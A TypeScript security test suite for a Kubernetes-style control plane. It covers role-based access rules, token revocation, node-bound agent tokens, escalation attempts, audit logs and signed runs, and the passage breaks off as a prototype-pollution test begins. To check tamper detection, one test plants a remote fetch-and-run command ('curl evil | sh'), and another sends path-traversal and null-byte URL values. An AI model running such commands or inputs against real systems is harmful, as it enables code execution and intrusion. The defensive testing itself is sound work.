// The control plane's security against a real controller: the allow/deny matrix of docs/SECURITY.md (read
// from the file, every cell checked), token lifecycles, node binding, escalation, throttling and names.
import { readFileSync } from 'node:fs';
import { expect } from 'chai';
import { send, startTestController } from '../lib/controller.js';
import type { TestController } from '../lib/controller.js';
import { repoPath } from '../lib/paths.js';
import { verifyRun } from '@hyprbox/crds';
import { until } from '../lib/wait.js';

const G = '/apis/hyprbox.io/v1alpha1';
const API = 'hyprbox.io/v1alpha1';
type Who = 'anonymous' | 'viewer' | 'operator' | 'ns-admin' | 'admin' | 'agent';
const WHO: Who[] = ['anonymous', 'viewer', 'operator', 'ns-admin', 'admin', 'agent'];
const USER_OF: Record<Who, string> = { anonymous: '', viewer: 'viewer', operator: 'operator', 'ns-admin': 'nsadmin', admin: 'admin', agent: '' };

// Responses are read field by field across many kinds; a loose JSON type keeps the assertions readable.
// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = Record<string, any>;

interface Cell {
  resource: string;
  verb: string;
  expect: Record<Who, string>;
}

/** The matrix as written in docs/SECURITY.md. */
function readMatrix(): Cell[] {
  const text = readFileSync(repoPath('docs/SECURITY.md'), 'utf8');
  const rows = text.split('\n').filter((l) => /^\| [a-z/]+ \| [a-z]+ \|/.test(l));
  return rows.filter((l) => !l.startsWith('| resource |')).map((l) => {
    const cols = l.split('|').slice(1, -1).map((c) => c.trim());
    return { resource: cols[0]!, verb: cols[1]!, expect: Object.fromEntries(WHO.map((w, i) => [w, cols[i + 2]!])) as Record<Who, string> };
  });
}

describe('control-plane security', function () {
  this.timeout(120_000);
  let c: TestController;
  const tokens: Partial<Record<Who, string>> = {};
  let seq = 0;
  const uniq = (p: string) => `${p}-${++seq}`;

  const call = async (who: Who | string | undefined, method: string, path: string, body?: unknown, type = 'application/json') => {
    const token = who === undefined ? undefined : (tokens[who as Who] ?? (who.startsWith('hbx_') ? who : undefined));
    const headers = new Headers();
    if (token) headers.set('Authorization', `Bearer ${token}`);
    if (body !== undefined) headers.set('Content-Type', type);
    const raw = body === undefined ? undefined : typeof body === 'string' && type === 'text/plain' ? body : JSON.stringify(body);
    const res = await send(c.url + path, method, headers, raw, c.controller.caCert);
    const text = await res.text();
    // A watch answers with one JSON event per line: the first one is enough here.
    return { status: res.status, body: (text ? JSON.parse(text.split('\n')[0]!) : {}) as Json };
  };
  const admin = (method: string, path: string, body?: unknown) => call('admin', method, path, body);
  const mustAdmin = async (method: string, path: string, body?: unknown) => {
    const r = await admin(method, path, body);
    if (r.status >= 300) throw new Error(`${method} ${path} → ${r.status} ${JSON.stringify(r.body)}`);
    return r.body;
  };
  const mintToken = async (spec: Record<string, unknown>): Promise<string> =>
    (await mustAdmin('POST', `${G}/tokens`, { apiVersion: API, kind: 'Token', metadata: {}, spec })).status.token as string;

  before(async () => {
    c = await startTestController('sqlite', ['--tls', 'off']);
    tokens.admin = c.token;
    for (const ns of ['acme', 'beta']) await mustAdmin('POST', '/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: ns } });
    for (const [user, role, namespace] of [['viewer', 'viewer'], ['operator', 'operator'], ['nsadmin', 'admin', 'acme']] as const) {
      await mustAdmin('POST', `${G}/users`, { apiVersion: API, kind: 'User', metadata: { name: user }, spec: {} });
      await mustAdmin('POST', `${G}/rolebindings`, { apiVersion: API, kind: 'RoleBinding', metadata: { name: `${user}-${role}` }, spec: { user, role, ...(namespace ? { namespace } : {}) } });
    }
    tokens.viewer = await mintToken({ user: 'viewer' });
    tokens.operator = await mintToken({ user: 'operator' });
    tokens['ns-admin'] = await mintToken({ user: 'nsadmin' });
    await mustAdmin('POST', `${G}/namespaces/acme/nodes`, { apiVersion: API, kind: 'Node', metadata: { name: 'web-1' }, spec: {} });
    tokens.agent = await mintToken({ node: { namespace: 'acme', name: 'web-1' } });
    await mustAdmin('POST', `${G}/presets`, { apiVersion: API, kind: 'Preset', metadata: { name: 'p1' }, spec: { apply: { script: 'true' } } });
    await mustAdmin('POST', `${G}/presets`, { apiVersion: API, kind: 'Preset', metadata: { name: 'p2' }, spec: { apply: { script: 'true' }, params: { type: 'object', properties: { a: { type: 'integer' }, b: { type: 'integer' }, note: { type: 'string' } } } } });
  });
  after(async () => c?.stop());

  /** A fresh object for a cell; `own` makes it the agent's (or the caller's). */
  function objectFor(resource: string, who: Who, own: boolean): { path: string; body: Record<string, unknown>; name: string } {
    const plural = resource.split('/')[0]!;
    const name = plural === 'nodes' && own && who === 'agent' ? 'web-1' : uniq(plural.slice(0, 4));
    const nodeName = own ? 'web-1' : 'db-9';
    const ns = (p: string) => `${G}/namespaces/acme/${p}`;
    const meta = { name };
    switch (plural) {
      case 'nodes': return { path: ns('nodes'), name, body: { apiVersion: API, kind: 'Node', metadata: meta, spec: {} } };
      case 'leases': return { path: ns('leases'), name: own && who === 'agent' ? 'web-1' : name, body: { apiVersion: API, kind: 'Lease', metadata: { name: own && who === 'agent' ? 'web-1' : name }, spec: { holderIdentity: 'hyprnode@web-1', renewTime: '2026-01-01T00:00:00Z' } } };
      case 'nodeprofiles': return { path: ns('nodeprofiles'), name, body: { apiVersion: API, kind: 'NodeProfile', metadata: meta, spec: { states: [{ preset: 'p1' }] } } };
      case 'findings': return { path: ns('findings'), name, body: { apiVersion: API, kind: 'Finding', metadata: meta, spec: { nodeName, type: 'tls.expiring', key: name, severity: 'WARN', source: 'scanner' } } };
      case 'runs': return { path: ns('runs'), name, body: { apiVersion: API, kind: 'Run', metadata: meta, spec: { nodeName, preset: 'p1' } } };
      case 'events': return { path: ns('events'), name, body: { apiVersion: API, kind: 'Event', metadata: meta, involvedObject: { kind: 'Node', name: 'web-1' }, reason: 'Test' } };
      case 'presets': return { path: `${G}/presets`, name, body: { apiVersion: API, kind: 'Preset', metadata: meta, spec: { apply: { script: 'true' } } } };
      case 'namespaces': return { path: '/api/v1/namespaces', name, body: { apiVersion: 'v1', kind: 'Namespace', metadata: meta } };
      case 'users': return { path: `${G}/users`, name, body: { apiVersion: API, kind: 'User', metadata: meta, spec: {} } };
      case 'tokens': return { path: `${G}/tokens`, name, body: { apiVersion: API, kind: 'Token', metadata: {}, spec: { user: own ? USER_OF[who] || 'admin' : 'admin' } } };
      case 'rolebindings': return { path: `${G}/rolebindings`, name, body: { apiVersion: API, kind: 'RoleBinding', metadata: meta, spec: { user: 'viewer', role: 'viewer', ...(own ? { namespace: 'acme' } : {}) } } };
      case 'auditevents': return { path: `${G}/auditevents`, name, body: { apiVersion: API, kind: 'AuditEvent', metadata: meta, time: '2026-01-01T00:00:00Z' } };
      case 'customresourcedefinitions': return { path: '/apis/apiextensions.k8s.io/v1/customresourcedefinitions', name: 'nodes.hyprbox.io', body: {} };
      default: throw new Error(`no fixture for ${resource}`);
    }
  }

  /** Performs the cell's request as `who` on an object made for it; returns the HTTP status. */
  async function attempt(cell: Cell, who: Who, own: boolean): Promise<{ status: number; body: Json }> {
    const o = objectFor(cell.resource, who, own);
    const sub = cell.resource.endsWith('/status') ? '/status' : cell.resource.endsWith('/log') ? '/log' : '';
    const existing = cell.resource !== 'customresourcedefinitions' && (!(cell.verb === 'create' || cell.verb === 'list' || cell.verb === 'watch') || cell.resource.endsWith('/log'));
    let stored: Json | undefined;
    if (own && who === 'agent' && cell.resource === 'leases' && cell.verb === 'create') {
      // The agent's own lease must not exist yet for a create.
      await admin('DELETE', `${o.path}/${o.name}`);
    }
    if (existing || (cell.verb !== 'create' && cell.resource !== 'customresourcedefinitions')) {
      if (cell.resource === 'auditevents') {
        stored = undefined;
      } else if (cell.resource.startsWith('tokens')) {
        const created = await mustAdmin('POST', o.path, o.body);
        o.name = created.metadata.name;
        stored = created;
      } else {
        const got = await admin('GET', `${o.path}/${o.name}`);
        stored = got.status === 200 ? got.body : await mustAdmin('POST', o.path, o.body);
      }
    }
    const item = `${o.path}/${o.name}${sub}`;
    switch (cell.verb) {
      case 'get':
        if (sub === '/log') {
          const r = await send(c.url + item, 'GET', new Headers(tokens[who] ? { Authorization: `Bearer ${tokens[who]}` } : {}), undefined);
          await r.text();
          return { status: r.status, body: {} };
        }
        return call(who, 'GET', item);
      case 'list': return call(who, 'GET', o.path);
      case 'watch': return call(who, 'GET', `${o.path}?watch=1&timeoutSeconds=1&resourceVersion=${stored?.metadata?.resourceVersion ?? ''}`);
      case 'create':
        if (sub === '/log') return call(who, 'POST', item, 'step output\n', 'text/plain');
        if (cell.resource === 'nodes' && own && who === 'agent') {
          // A fresh agent whose node does not exist yet registers it.
          const fresh = await mintToken({ node: { namespace: 'acme', name: `new-${++seq}` } });
          return call(fresh, 'POST', o.path, { ...o.body, metadata: { name: `new-${seq}` } });
        }
        return call(who, 'POST', o.path, o.body);
      case 'update': {
        // A reconciler may write the object's status meanwhile: like kubectl, re-read and retry on 409.
        for (let attempt = 0; ; attempt++) {
          const fresh = cell.resource.startsWith('tokens') || cell.resource === 'auditevents' ? stored! : (await admin('GET', `${o.path}/${o.name}`)).body;
          const next = structuredClone(fresh);
          if (sub) next.status = statusFor(cell.resource);
          else next.metadata.labels = { touched: 'yes' };
          const r = await call(who, 'PUT', item, next);
          if (r.status !== 409 || attempt >= 3) return r;
        }
      }
      case 'patch': {
        const patch = sub ? { status: statusFor(cell.resource) } : cell.resource === 'tokens' ? { spec: { revoked: true } } : { metadata: { labels: { touched: 'yes' } } };
        return call(who, 'PATCH', item, patch, 'application/merge-patch+json');
      }
      case 'delete': return call(who, 'DELETE', item);
      default: throw new Error(`unknown verb ${cell.verb}`);
    }
  }

  const statusFor = (resource: string): Record<string, unknown> =>
    resource.startsWith('nodes') ? { health: 'healthy' } : resource.startsWith('runs') ? { phase: 'Running' } : { phase: 'Snoozed' };

  for (const cell of readMatrix()) {
    for (const who of WHO) {
      const want = cell.expect[who];
      it(`${cell.resource} ${cell.verb} as ${who}: ${want}`, async () => {
        const r = await attempt(cell, who, want === 'own' || want === 'ns');
        const label = `${cell.resource} ${cell.verb} as ${who} → ${r.status} ${JSON.stringify(r.body).slice(0, 300)}`;
        if (want === '401') return void expect(r.status, label).to.equal(401);
        if (want === '✗') return void expect(r.status, label).to.equal(403);
        expect(r.status, label).to.be.within(200, 299);
        if (want === 'own' || want === 'ns') {
          // The same request on someone else's object is refused or does not see it.
          const other = await attempt(cell, who, false);
          const otherLabel = `${cell.resource} ${cell.verb} as ${who} on another's object → ${other.status}`;
          if (cell.verb === 'list') {
            const names = ((other.body.items ?? []) as Array<{ spec?: { nodeName?: string }; metadata: { name: string } }>).map((i) => i.spec?.nodeName ?? i.metadata.name);
            expect(names.every((n) => n === 'web-1'), otherLabel).to.equal(true);
          } else if (cell.verb !== 'watch') {
            expect(other.status, otherLabel).to.be.oneOf([403, 404]);
          }
        }
      });
    }
  }

  it('the core Events view (kubectl describe, kubectl events) is authorized as listing HyprBox Events', async () => {
    expect((await call('viewer', 'GET', '/api/v1/namespaces/acme/events')).status).to.equal(200);
    expect((await call('ns-admin', 'GET', '/api/v1/namespaces/acme/events')).status).to.equal(200);
    const refused = await call('ns-admin', 'GET', '/api/v1/events');
    expect(refused.status).to.equal(403);
    // Worded as kube-apiserver words it, API group included, so tools that parse it keep working.
    expect((refused.body as { message: string }).message).to.match(/^events\.hyprbox\.io is forbidden: User "[^"]+" cannot list resource "events" in API group "hyprbox\.io" at the cluster scope/);
    expect((await call('agent', 'GET', '/api/v1/namespaces/acme/events')).status).to.equal(403);
    expect((await call(undefined, 'GET', '/api/v1/namespaces/acme/events')).status).to.equal(401);
  });

  it('SelfSubjectAccessReview (kubectl auth can-i) agrees with every cell of the matrix', async () => {
    const CLUSTER = new Set(['presets', 'namespaces', 'users', 'tokens', 'rolebindings', 'auditevents', 'customresourcedefinitions']);
    const groupOf = (plural: string) => (plural === 'namespaces' ? '' : plural === 'customresourcedefinitions' ? 'apiextensions.k8s.io' : 'hyprbox.io');
    const wrong: string[] = [];
    for (const cell of readMatrix()) {
      const [plural, subresource] = cell.resource.split('/') as [string, string | undefined];
      for (const who of WHO.filter((w) => w !== 'anonymous')) {
        const want = cell.expect[who];
        // An agent's own node and lease are the ones named after it.
        const name = who === 'agent' && (plural === 'nodes' || plural === 'leases') && cell.verb !== 'list' && cell.verb !== 'watch' && cell.verb !== 'create' ? 'web-1' : undefined;
        const attrs = { verb: cell.verb, group: groupOf(plural), resource: plural, ...(subresource ? { subresource } : {}), ...(CLUSTER.has(plural) ? {} : { namespace: 'acme' }), ...(name ? { name } : {}) };
        const r = await call(who, 'POST', '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews', { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectAccessReview', spec: { resourceAttributes: attrs } });
        expect(r.status, JSON.stringify(r.body)).to.equal(201);
        // own and ns: allowed for some objects (the caller's, the namespace's), which is what "yes" means.
        if (r.body.status.allowed !== (want !== '✗')) wrong.push(`${cell.resource} ${cell.verb} as ${who}: matrix ${want}, review ${JSON.stringify(r.body.status)}`);
      }
    }
    expect(wrong).to.deep.equal([]);
    // The agent's node is its own; another node of the same namespace is not.
    const other = await call('agent', 'POST', '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews', { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectAccessReview', spec: { resourceAttributes: { verb: 'get', group: 'hyprbox.io', resource: 'nodes', namespace: 'acme', name: 'db-9' } } });
    expect(other.body.status.allowed).to.equal(false);
    expect(other.body.status.reason).to.contain('web-1');
  });

  it('SelfSubjectRulesReview and SelfSubjectReview describe the caller; bad reviews are refused', async () => {
    const rules = await call('viewer', 'POST', '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: { namespace: 'acme' } });
    expect(rules.status).to.equal(201);
    const byResource = new Map((rules.body.status.resourceRules as Array<{ resources: string[]; verbs: string[] }>).map((r) => [r.resources[0], r.verbs]));
    expect(byResource.get('nodes')).to.deep.equal(['get', 'list', 'watch']);
    // Viewers mint and revoke their own tokens (checked against the token), and never read the audit log.
    expect(byResource.get('tokens')).to.deep.equal(['create', 'update', 'patch', 'delete']);
    expect(byResource.has('auditevents')).to.equal(false);
    expect(rules.body.status.incomplete).to.equal(false);
    const agentRules = await call('agent', 'POST', '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: { namespace: 'acme' } });
    expect(agentRules.body.status.incomplete).to.equal(true);

    const me = await call('operator', 'POST', '/apis/authentication.k8s.io/v1/selfsubjectreviews', { apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' });
    expect(me.status).to.equal(201);
    expect(me.body.status.userInfo).to.deep.include({ username: 'operator', extra: { 'hyprbox.io/cluster-role': ['operator'] } });
    const ns = await call('ns-admin', 'POST', '/apis/authentication.k8s.io/v1/selfsubjectreviews', { apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' });
    expect(ns.body.status.userInfo.extra).to.deep.equal({ 'hyprbox.io/namespace-roles': ['acme=admin'] });

    const SSAR = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';
    expect((await call(undefined, 'POST', SSAR, { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectAccessReview', spec: {} })).status).to.equal(401);
    const neither = await call('viewer', 'POST', SSAR, { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectAccessReview', spec: {} });
    expect(neither.status).to.equal(422);
    expect(neither.body.details.causes[0].field).to.equal('spec.resourceAttributes');
    const wrongKind = await call('viewer', 'POST', SSAR, { apiVersion: 'v1', kind: 'Namespace', spec: {} });
    expect(wrongKind.status).to.equal(400);
    const badType = await call('viewer', 'POST', SSAR, { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectAccessReview', spec: { resourceAttributes: { verb: 5, resource: 'nodes' } } });
    expect(badType.status).to.equal(400);
    expect(badType.body.details.causes[0].field).to.equal('spec.resourceAttributes.verb');
  });

  describe('tokens', () => {
    it('are stored as a hash only, and the plaintext is shown once', async () => {
      const created = await mustAdmin('POST', `${G}/tokens`, { apiVersion: API, kind: 'Token', metadata: {}, spec: { user: 'viewer' } });
      expect(created.status.token).to.match(/^hbx_[a-z0-9]{12}_[A-Za-z0-9_-]{43}$/);
      expect(created.status.sha256).to.match(/^[0-9a-f]{64}$/);
      const again = await mustAdmin('GET', `${G}/tokens/${created.metadata.name}`);
      expect(again.status.token).to.equal(undefined);
      expect(JSON.stringify(again)).to.not.contain((created.status.token as string).slice('hbx_xxxxxxxxxxxx_'.length));
    });

    it('expired, revoked, garbage, malformed and disabled-user tokens all get the same 401', async () => {
      const expiredTok = await mintToken({ user: 'viewer', expiresAt: '2020-01-01T00:00:00Z' });
      const revokedRes = await mustAdmin('POST', `${G}/tokens`, { apiVersion: API, kind: 'Token', metadata: {}, spec: { user: 'viewer' } });
      expect((await call(revokedRes.status.token, 'GET', `${G}/presets`)).status).to.equal(200);
      const rv = await call('admin', 'PATCH', `${G}/tokens/${revokedRes.metadata.name}`, { spec: { revoked: true } }, 'application/merge-patch+json');
      expect(rv.status).to.equal(200);
      await mustAdmin('POST', `${G}/users`, { apiVersion: API, kind: 'User', metadata: { name: 'gone-user' }, spec: { disabled: true } });
      const disabledTok = await mintToken({ user: 'gone-user' });
      const bodies = new Set<string>();
      for (const t of [expiredTok, revokedRes.status.token as string, disabledTok, 'hbx_aaaaaaaaaaaa_' + 'A'.repeat(43), 'garbage']) {
        const r = await call(t, 'GET', `${G}/presets`);
        expect(r.status, t).to.equal(401);
        bodies.add(JSON.stringify(r.body));
      }
      expect(bodies.size).to.equal(1);
      // Revocation cannot be undone.
      const undo = await call('admin', 'PATCH', `${G}/tokens/${revokedRes.metadata.name}`, { spec: { revoked: false } }, 'application/merge-patch+json');
      expect(undo.status).to.equal(422);
    });

    it("an agent token works only for its node, and dies with the node it registered", async () => {
      const tok = await mintToken({ node: { namespace: 'acme', name: 'cache-1' } });
      expect((await call(tok, 'POST', `${G}/namespaces/acme/nodes`, { apiVersion: API, kind: 'Node', metadata: { name: 'cache-1' }, spec: {} })).status).to.equal(201);
      expect((await call(tok, 'GET', `${G}/namespaces/acme/nodes/cache-1`)).status).to.equal(200);
      // Another node's name, or another namespace: refused.
      expect((await call(tok, 'PATCH', `${G}/namespaces/acme/nodes/web-1/status`, { status: { health: 'healthy' } }, 'application/merge-patch+json')).status).to.be.oneOf([403, 404]);
      expect((await call(tok, 'GET', `${G}/namespaces/beta/nodes`)).status).to.equal(403);
      // Presenting it under another node's name: 403.
      expect((await call(tok, 'GET', `${G}/namespaces/acme/nodes/web-1`)).status).to.equal(403);
      expect((await call(tok, 'POST', `${G}/namespaces/acme/nodes`, { apiVersion: API, kind: 'Node', metadata: { name: 'imposter' }, spec: {} })).status).to.equal(403);
      // The node is deleted and re-created with the same name: the old token stays dead.
      await mustAdmin('DELETE', `${G}/namespaces/acme/nodes/cache-1`);
      await mustAdmin('POST', `${G}/namespaces/acme/nodes`, { apiVersion: API, kind: 'Node', metadata: { name: 'cache-1' }, spec: {} });
      expect((await call(tok, 'GET', `${G}/namespaces/acme/nodes/cache-1`)).status).to.equal(401);
    });

    it('an agent listing runs sees only its own, whatever selector it sends', async () => {
      for (const node of ['web-1', 'db-9']) await mustAdmin('POST', `${G}/namespaces/acme/runs`, { apiVersion: API, kind: 'Run', metadata: { name: uniq(`r-${node}`) }, spec: { nodeName: node, preset: 'p1' } });
      const r = await call('agent', 'GET', `${G}/namespaces/acme/runs?fieldSelector=spec.nodeName%3Ddb-9`);
      expect(r.status).to.equal(200);
      expect(r.body.items).to.deep.equal([]);
    });
  });

  describe('escalation', () => {
    it('a namespace admin cannot bind roles cluster-wide or in another namespace, nor mint others\' tokens', async () => {
      const bind = (spec: Record<string, unknown>) => call('ns-admin', 'POST', `${G}/rolebindings`, { apiVersion: API, kind: 'RoleBinding', metadata: { name: uniq('rb') }, spec });
      expect((await bind({ user: 'nsadmin', role: 'admin' })).status).to.equal(403);
      expect((await bind({ user: 'nsadmin', role: 'admin', namespace: 'beta' })).status).to.equal(403);
      expect((await bind({ user: 'viewer', role: 'operator', namespace: 'acme' })).status).to.equal(201);
      const tok = (spec: Record<string, unknown>) => call('ns-admin', 'POST', `${G}/tokens`, { apiVersion: API, kind: 'Token', metadata: {}, spec });
      expect((await tok({ user: 'admin' })).status).to.equal(403);
      expect((await tok({ node: { namespace: 'beta', name: 'x' } })).status).to.equal(403);
      expect((await tok({ node: { namespace: 'acme', name: 'x' } })).status).to.equal(201);
      // Moving an existing binding out of its namespace is refused too.
      const mine = (await bind({ user: 'viewer', role: 'viewer', namespace: 'acme' })).body;
      const move = await call('ns-admin', 'PATCH', `${G}/rolebindings/${mine.metadata.name}`, { spec: { namespace: null } }, 'application/merge-patch+json');
      expect(move.status).to.equal(403);
    });

    it('a viewer cannot grant itself anything', async () => {
      const r = await call('viewer', 'POST', `${G}/rolebindings`, { apiVersion: API, kind: 'RoleBinding', metadata: { name: uniq('rb') }, spec: { user: 'viewer', role: 'admin' } });
      expect(r.status).to.equal(403);
      const u = await call('viewer', 'PATCH', `${G}/users/viewer`, { spec: { displayName: 'x' } }, 'application/merge-patch+json');
      expect(u.status).to.equal(403);
    });
  });

  describe('names and paths', () => {
    for (const bad of ['..', '..%2F..%2Fetc', 'a%00b', '%2e%2e', 'a%2Fb']) {
      it(`refuses ${bad} in every URL segment without touching the store`, async () => {
        const before = await c.controller.store.range('/registry/');
        for (const path of [`${G}/namespaces/${bad}/nodes`, `${G}/namespaces/acme/nodes/${bad}`, `${G}/namespaces/acme/${bad}`, `/api/v1/namespaces/${bad}`]) {
          const r = await admin('GET', path);
          expect(r.status, path).to.be.oneOf([400, 404]);
          const w = await admin('POST', path, { apiVersion: API, kind: 'Node', metadata: { name: 'x' }, spec: {} });
          expect(w.status, path).to.be.oneOf([400, 404, 405, 422]);
        }
        const after = await c.controller.store.range('/registry/');
        // Only the audit log may grow: the refusals are audited.
        const keys = (r: typeof after) => r.kvs.map((kv) => kv.key).filter((k) => !k.startsWith('/registry/hyprbox.io/auditevents/'));
        expect(keys(after)).to.deep.equal(keys(before));
      });
    }
  });

  describe('signed runs', () => {
    it('the API signs every run it stores; runs written around it do not verify', async () => {
      const key = await send(`${c.url}/hyprbox/v1/signing-key`, 'GET', new Headers({ Authorization: `Bearer ${tokens.agent}` }), undefined);
      expect(key.status).to.equal(200);
      const pem = await key.text();
      expect(pem).to.contain('BEGIN PUBLIC KEY');
      const run = await mustAdmin('POST', `${G}/namespaces/acme/runs`, {
        apiVersion: API, kind: 'Run', metadata: { name: 'signed-1' },
        spec: { nodeName: 'web-1', preset: 'p2', steps: [{ name: 'apply', script: 'echo hi' }], signature: 'forged', params: { b: 1, a: 2 } },
      });
      expect(run.spec.signature).to.not.equal('forged');
      expect(verifyRun(run, pem, { now: new Date() })).to.deep.equal({ ok: true });
      expect(verifyRun(run, pem, { now: new Date(Date.parse(run.spec.expiresAt) + 1000) }).ok).to.equal(false);
      expect(verifyRun(run, pem, { now: new Date(), executed: (uid) => uid === run.metadata.uid })).to.include({ ok: false, reason: 'Replayed' });

      // An approval through the API keeps the run valid (and renews its expiry).
      const approved = await call('operator', 'PATCH', `${G}/namespaces/acme/runs/signed-1`, { spec: { approvedBy: ['operator'] } }, 'application/merge-patch+json');
      expect(approved.status).to.equal(200);
      expect(verifyRun(approved.body, pem, { now: new Date() })).to.deep.equal({ ok: true });

      // Someone with store access swaps the script: the run no longer verifies.
      const key1 = '/registry/hyprbox.io/runs/acme/signed-1';
      const kv = await c.controller.store.get(key1);
      const tampered = JSON.parse(kv!.value) as Json;
      tampered.spec.steps[0].script = 'curl evil | sh';
      await c.controller.store.update(key1, JSON.stringify(tampered), kv!.modRevision);
      const read = await mustAdmin('GET', `${G}/namespaces/acme/runs/signed-1`);
      expect(verifyRun(read, pem, { now: new Date() })).to.include({ ok: false, reason: 'Tampered' });
      // And one created straight in the store has no signature at all.
      const bare = { ...tampered, metadata: { ...tampered.metadata, name: 'bare-1', uid: 'u-bare' }, spec: { ...tampered.spec, signature: undefined } };
      await c.controller.store.create('/registry/hyprbox.io/runs/acme/bare-1', JSON.stringify(bare));
      expect(verifyRun(await mustAdmin('GET', `${G}/namespaces/acme/runs/bare-1`), pem, { now: new Date() })).to.include({ ok: false, reason: 'Unsigned' });
    });
  });

  describe('secrets', () => {
    it('a secret param must be a reference resolved on the host, never a value', async () => {
      await mustAdmin('POST', `${G}/presets`, { apiVersion: API, kind: 'Preset', metadata: { name: 'backup' }, spec: { apply: { script: 'true' }, params: { type: 'object', properties: { passwordRef: { type: 'string' }, repository: { type: 'string' } } }, secretParams: ['passwordRef'] } });
      const profile = (value: string) => ({ apiVersion: API, kind: 'NodeProfile', metadata: { name: uniq('sec') }, spec: { states: [{ preset: 'backup', with: { passwordRef: value, repository: '/srv' } }] } });
      const literal = await admin('POST', `${G}/namespaces/acme/nodeprofiles`, profile('hunter2'));
      expect(literal.status).to.equal(422);
      expect(literal.body.details.causes[0].field).to.equal('spec.states[0].with.passwordRef');
      expect(JSON.stringify(literal.body)).to.not.contain('hunter2');
      for (const ref of ['env:RESTIC_PASSWORD', 'file:/etc/hyprbox/restic.pass']) {
        expect((await admin('POST', `${G}/namespaces/acme/nodeprofiles`, profile(ref))).status, ref).to.equal(201);
      }
      const run = await admin('POST', `${G}/namespaces/acme/runs`, { apiVersion: API, kind: 'Run', metadata: { name: uniq('secrun') }, spec: { nodeName: 'web-1', preset: 'backup', params: { passwordRef: 'plain' } } });
      expect(run.status).to.equal(422);
    });
  });

  describe('audit', () => {
    it('records denials and mutations in the store and the JSON-lines file, without bodies', async () => {
      const denied = await call('viewer', 'DELETE', `${G}/presets/p1`);
      expect(denied.status).to.equal(403);
      const anon = await call(undefined, 'DELETE', `${G}/presets/p1`);
      expect(anon.status).to.equal(401);
      const made = await call('operator', 'POST', `${G}/namespaces/acme/nodeprofiles`, { apiVersion: API, kind: 'NodeProfile', metadata: { name: 'audited' }, spec: { states: [{ preset: 'p2', with: { note: 'hunter2-marker' } }] } });
      expect(made.status).to.equal(201);
      const file = `${c.dataDir}/audit/audit.jsonl`;
      let lines: Json[] = [];
      const found = (pred: (e: Json) => boolean) => lines.some(pred);
      for (let i = 0; i < 100; i++) {
        lines = readFileSync(file, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Json);
        if (found((e) => e.verb === 'create' && e.name === 'audited')) break;
        await new Promise((r) => setTimeout(r, 50));
      }
      expect(found((e) => e.user?.name === 'viewer' && e.verb === 'delete' && e.resource === 'presets' && e.code === 403 && e.reason)).to.equal(true);
      expect(found((e) => !e.user && e.verb === 'delete' && e.code === 401)).to.equal(true);
      expect(found((e) => e.user?.name === 'operator' && e.verb === 'create' && e.resource === 'nodeprofiles' && e.namespace === 'acme' && e.code === 201)).to.equal(true);
      expect(readFileSync(file, 'utf8')).to.not.contain('hunter2-marker');
      // Every denial of the matrix left an entry: at least as many 403s and 401s as the matrix has cells.
      const matrix = readMatrix();
      const want403 = matrix.reduce((n, cell) => n + WHO.filter((w) => cell.expect[w] === '✗').length, 0);
      const want401 = matrix.length;
      expect(lines.filter((e) => e.code === 403).length).to.be.at.least(want403);
      expect(lines.filter((e) => e.code === 401).length).to.be.at.least(want401);
      const listed = await mustAdmin('GET', `${G}/auditevents`);
      expect((listed.items as Json[]).some((e) => e.user?.name === 'viewer' && e.code === 403)).to.equal(true);
      expect(JSON.stringify(listed)).to.not.contain('hunter2-marker');
    });
  });

  describe('no existence oracle', () => {
    it("another user's token or binding answers as a name that does not exist, to a caller who may not read them", async () => {
      const theirs = await mustAdmin('POST', `${G}/tokens`, { apiVersion: API, kind: 'Token', metadata: {}, spec: { user: 'viewer' } });
      const binding = await mustAdmin('POST', `${G}/rolebindings`, { apiVersion: API, kind: 'RoleBinding', metadata: { name: uniq('rb-beta') }, spec: { user: 'viewer', role: 'viewer', namespace: 'beta' } });
      const probes: Array<[Who, string, string]> = [
        ['operator', `${G}/tokens/${theirs.metadata.name}`, `${G}/tokens/no-such-token`],
        ['ns-admin', `${G}/rolebindings/${binding.metadata.name}`, `${G}/rolebindings/no-such-binding`],
      ];
      for (const [who, existing, free] of probes) {
        for (const [method, body, type] of [['DELETE', undefined, undefined], ['PATCH', { metadata: { labels: { x: 'y' } } }, 'application/merge-patch+json']] as const) {
          const a = await call(who, method, existing, body, type);
          const b = await call(who, method, free, body, type);
          expect([a.status, b.status], `${who} ${method} ${existing}`).to.deep.equal([404, 404]);
          expect(a.body.message).to.equal(String(b.body.message).replace(free.split('/').pop()!, existing.split('/').pop()!));
        }
      }
      // Nothing was changed, and the caller's own token is still theirs to revoke.
      expect((await mustAdmin('GET', `${G}/tokens/${theirs.metadata.name}`)).metadata.labels).to.equal(undefined);
      const own = await call('operator', 'POST', `${G}/tokens`, { apiVersion: API, kind: 'Token', metadata: {}, spec: { user: 'operator' } });
      expect(own.status).to.equal(201);
      expect((await call('operator', 'DELETE', `${G}/tokens/${own.body.metadata.name}`)).status).to.equal(200);
      // A caller who may read the object still hears why it is refused.
      const ns = await call('ns-admin', 'POST', `${G}/rolebindings`, { apiVersion: API, kind: 'RoleBinding', metadata: { name: uniq('rb-acme') }, spec: { user: 'viewer', role: 'viewer', namespace: 'acme' } });
      expect((await call('ns-admin', 'PATCH', `${G}/rolebindings/${ns.body.metadata.name}`, { spec: { namespace: 'beta' } }, 'application/merge-patch+json')).status).to.equal(403);
    });
  });

  describe('hardening found by the session-6 audit', () => {
    const MERGE = 'application/merge-patch+json';
    const APPLY = 'application/apply-patch+yaml';

    it('a body with a __proto__ key is refused before anything reads it: nothing is polluted, nobody is promoted', async () => {
